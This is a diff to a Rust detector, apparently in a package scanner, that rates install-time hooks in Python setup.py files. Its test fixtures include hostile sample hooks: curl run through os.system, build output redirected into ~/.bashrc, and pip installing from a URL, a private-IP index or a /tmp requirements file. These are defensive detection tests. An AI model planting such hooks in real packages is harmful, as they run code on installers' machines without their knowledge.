@@ -7,7 +7,10 @@
 //! Severity: a bare hook is Medium; module-level process Medium (`git describe`
 //! is common); a hook running a build tool it names (`cmake`, `make`, `npm`, `cargo`,
 //! `git`, a shipped `configure` or `.sh` script, the interpreter on a shipped relative `.py`
-//! build script; no shell chaining) Medium; module-level
+//! build script, the program as a format template's first value; no shell chaining, output
+//! only redirected to the other stream or `/dev/null`) Medium; a hook running `pip install` of
+//! requirement names only (they come through the index the user configured, like any
+//! dependency: no URL, path, VCS or index option) Medium; module-level
 //! network High; network, exec or any other process *inside* a hook, or module-level
 //! network plus process, Critical. Must not: report process or
 //! network use outside setup.py (other detectors do).
@@ -21,7 +24,7 @@ use std::sync::LazyLock;
 
 pub(crate) static META: DetectorMeta = DetectorMeta {
     id: "execution.install-hook",
-    revision: 4,
+    revision: 5,
     title: "Runs code at install time.",
     category: Category::Execution,
     severity: Severity::Medium,
@@ -136,9 +139,14 @@ fn build_tool(text: &str, sink: &super::sinks::Sink<'_>) -> Option<String> {
     });
     let after = &text[sink.offset + sink.name.len()..];
     let call: String = after.chars().take(300).collect();
+    if let Some(names) = pip_install_of_names(&call) {
+        return Some(format!("pip install {names}"));
+    }
     let c = FIRST.captures(&call)?;
     let program_of = |lit: &str| -> Option<(String, Option<String>)> {
-        if lit.contains(['|', ';', '`', '>']) || lit.contains("&&") || lit.contains("$(") {
+        // Sending output to the terminal's other stream or nowhere redirects; nothing else may.
+        let lit = QUIET.replace_all(lit, "");
+        if lit.contains(['|', ';', '`', '>', '<']) || lit.contains("&&") || lit.contains("$(") {
             return None;
         }
         let mut words = lit.split_whitespace();
@@ -146,7 +154,16 @@ fn build_tool(text: &str, sink: &super::sinks::Sink<'_>) -> Option<String> {
     };
     let (program, second) = if let Some(lit) = c.name("lit") {
         let (p, w) = program_of(lit.as_str())?;
-        (p, c.name("second").map(|m| m.as_str().to_string()).or(w))
+        // `"%s -cv %s" % (msgfmt, po)`, `"{} -V".format(msgfmt)`: the program is the first value.
+        if matches!(p.as_str(), "%s" | "{}" | "{0}") {
+            let rest = &call[c.get(0).expect("match").end()..];
+            let var = TEMPLATE_VALUE.captures(rest)?.name("v")?.as_str();
+            let lit = assigned_literal(text, var)?;
+            let (p, _) = program_of(&lit)?;
+            (p, w)
+        } else {
+            (p, c.name("second").map(|m| m.as_str().to_string()).or(w))
+        }
     } else {
         let var = c.name("var")?.as_str();
         // The running interpreter on a build script the sdist ships (`[sys.executable,
@@ -161,10 +178,7 @@ fn build_tool(text: &str, sink: &super::sinks::Sink<'_>) -> Option<String> {
         if let Some(tool) = BUILD_TOOLS.iter().find(|t| t.len() > 2 && lower.contains(*t)) {
             return Some((*tool).to_string());
         }
-        let assigned =
-            Regex::new(&format!(r#"(?m)^[ \t]*{}\s*=\s*[\[(]?\s*['"]([^'"\n]*)['"]"#, regex::escape(var))).ok()?;
-        let lit = assigned.captures(text)?.get(1)?.as_str().to_string();
-        program_of(&lit)?
+        program_of(&assigned_literal(text, var)?)?
     };
     let base = program.rsplit(['/', '\\']).next().unwrap_or(&program).to_ascii_lowercase();
     let base = base.strip_suffix(".exe").unwrap_or(&base).to_string();
@@ -175,6 +189,53 @@ fn build_tool(text: &str, sink: &super::sinks::Sink<'_>) -> Option<String> {
     matches!(base.as_str(), "sh" | "bash").then_some(())?;
     let script = script.filter(|a| !a.contains("://") && !a.starts_with('-'))?;
     Some(format!("{base} {script}"))
+}
+
+/// The literal a variable is assigned in the file (`msgfmt = 'msgfmt'`, `cmd = ["npm", "ci"]`:
+/// its first string).
+fn assigned_literal(text: &str, var: &str) -> Option<String> {
+    let assigned =
+        Regex::new(&format!(r#"(?m)^[ \t]*{}\s*=\s*[\[(]?\s*['"]([^'"\n]*)['"]"#, regex::escape(var))).ok()?;
+    Some(assigned.captures(text)?.get(1)?.as_str().to_string())
+}
+
+/// Output sent to the other stream or discarded: `2>&1`, `>/dev/null`, `2> /dev/null`, `>nul`.
+static QUIET: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)\s[12]?>&[12]|\s[12]?>\s*(?:/dev/null|nul)(?-u:\b)").expect("quiet"));
+/// What follows a format template's literal: `% (name, …)`, `% name`, `.format(name, …)`.
+static TEMPLATE_VALUE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^\s*(?:%\s*\(?\s*|\.format\(\s*)(?P<v>[A-Za-z_]\w*)\s*[,)\n]").expect("template value")
+});
+
+/// `("pip", "install", "nose", "coverage")`, `[sys.executable, "-m", "pip", "install", "x"]`,
+/// `"pip install nose"`: pip installing packages it names, which goes through the index the
+/// user configured (and this gate) like any other install. Only plain requirement names and
+/// version specifiers count: no URL, path, VCS, index or find-links option, no constraint or
+/// requirements file, nothing chained. Returns the names.
+fn pip_install_of_names(call: &str) -> Option<String> {
+    static LIST: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"^\(\s*[\[(]\s*(?:['"]pip3?['"]|sys\.executable\s*,\s*['"]-m['"]\s*,\s*['"]pip['"])\s*,\s*['"]install['"](?P<args>(?:\s*,\s*['"][^'"\n]*['"])+)\s*,?\s*[\])]"#)
+            .expect("pip list")
+    });
+    static LINE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r#"^\(\s*['"](?:pip3?|python3?\s+-m\s+pip)\s+install\s+(?P<args>[^'"\n]+)['"]\s*[,)]"#)
+            .expect("pip line")
+    });
+    static ARG: LazyLock<Regex> = LazyLock::new(|| Regex::new(r#"['"]([^'"\n]*)['"]"#).expect("arg"));
+    let args: Vec<String> = if let Some(c) = LIST.captures(call) {
+        ARG.captures_iter(&c["args"]).map(|a| a[1].trim().to_string()).collect()
+    } else {
+        LINE.captures(call)?["args"].split_whitespace().map(str::to_string).collect()
+    };
+    let requirement = |a: &str| {
+        !a.is_empty()
+            && a.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
+            && a.chars().all(|c| c.is_ascii_alphanumeric() || "._-[],<>=!~ ".contains(c))
+    };
+    let quiet_option = |a: &str| matches!(a, "-U" | "--upgrade" | "-q" | "--quiet" | "--user" | "--no-deps");
+    let names: Vec<&String> = args.iter().filter(|a| !quiet_option(a)).collect();
+    (!names.is_empty() && names.iter().all(|a| requirement(a)))
+        .then(|| names.iter().map(|a| a.as_str()).collect::<Vec<_>>().join(" "))
 }
 
 pub(crate) struct InstallHook;
@@ -331,6 +392,55 @@ mod tests {
                     InstallTime,
                     "import subprocess\nfrom setuptools.command.build_py import build_py\nclass B(build_py):\n    def run(self):\n        cmd = ['npm', 'run', 'build']\n        subprocess.check_call(cmd, cwd='js')\n        super().run()\nsetup(cmdclass={'build_py': B})\n",
                     Some((6, "build_py hook runs build tool npm", Medium)),
+                ),
+                (
+                    "a build_py hook running msgfmt through a format template, stderr to stdout",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nclass B(build_py):\n    def run(self):\n        msgfmt = 'msgfmt'\n        os.system(\n            '%s -cv %s --output-file=%s 2>&1' % (msgfmt, po, mo))\nsetup(cmdclass={'build_py': B})\n",
+                    Some((5, "build_py hook runs build tool msgfmt", Medium)),
+                ),
+                (
+                    "a format template whose program is no build tool",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nclass B(build_py):\n    def run(self):\n        prog = 'curl'\n        os.system('%s -s %s' % (prog, url))\nsetup(cmdclass={'build_py': B})\n",
+                    Some((5, "build_py hook: os.system", Critical)),
+                ),
+                (
+                    "a build tool whose output is written into a start-up file",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nclass B(build_py):\n    def run(self):\n        os.system('make -s > ~/.bashrc')\nsetup(cmdclass={'build_py': B})\n",
+                    Some((4, "build_py hook: os.system", Critical)),
+                ),
+                (
+                    "a develop hook installing test tools by name with pip",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess\nclass D(develop):\n    def run(self):\n        subprocess.check_call(('pip', 'install', 'nose', 'coverage'))\n        develop.run(self)\nsetup(cmdclass={'develop': D})\n",
+                    Some((4, "develop hook runs build tool pip install nose coverage", Medium)),
+                ),
+                (
+                    "an install hook running pip on a URL",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess, sys\nclass I(install):\n    def run(self):\n        subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://example.org/x.whl'])\nsetup(cmdclass={'install': I})\n",
+                    Some((4, "install hook: subprocess.check_call", Critical)),
+                ),
+                (
+                    "an install hook running pip against another index",
+                    "setup.py",
+                    InstallTime,
+                    "import subprocess\nclass I(install):\n    def run(self):\n        subprocess.check_call(['pip', 'install', '--index-url', 'http://10.0.0.1/simple', 'x'])\nsetup(cmdclass={'install': I})\n",
+                    Some((4, "install hook: subprocess.check_call", Critical)),
+                ),
+                (
+                    "an install hook running pip from a command string with a requirements file",
+                    "setup.py",
+                    InstallTime,
+                    "import os\nclass I(install):\n    def run(self):\n        os.system('pip install -r /tmp/r.txt')\nsetup(cmdclass={'install': I})\n",
+                    Some((4, "install hook: os.system", Critical)),
                 ),
                 (
                     "a hook running a shipped build script with the interpreter",
